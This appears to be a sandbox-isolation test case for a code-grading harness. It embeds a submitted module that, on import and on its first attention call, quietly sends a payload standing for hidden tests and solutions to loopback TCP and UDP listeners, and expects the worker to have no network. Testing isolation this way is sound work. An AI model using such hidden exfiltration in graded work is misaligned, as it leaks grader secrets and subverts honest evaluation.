"""Send data to a listener on the grading machine's loopback: the runner listens on
127.0.0.1 (one TCP and one UDP port, formatted into this source). At import and in the first
attention call of each worker, the case connects and sends what it would exfiltrate.

The worker must have no network: the listener receives nothing (no connection, no datagram),
and the notebook keeps every point (its attempts fail quietly).
"""

EXPECT = {
    "attacked": [],
    "statuses": [],
    "keep": ["*"],
}

SOURCE = '''
import socket

_PAYLOAD = b"@@CASE@@: hidden tests, solutions and reports would go here"
_sent = [False]


def _exfiltrate(where):
    try:
        with socket.create_connection(("127.0.0.1", @@TCP_PORT@@), timeout=1.0) as s:
            s.sendall(_PAYLOAD + where)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(_PAYLOAD + where, ("127.0.0.1", @@UDP_PORT@@))
    except OSError:
        pass


_exfiltrate(b" (import)")
_honest_sdpa = scaled_dot_product_attention


def scaled_dot_product_attention(Q, K, V, mask=None):
    if not _sent[0]:
        _sent[0] = True
        _exfiltrate(b" (probe)")
    return _honest_sdpa(Q, K, V, mask)
'''
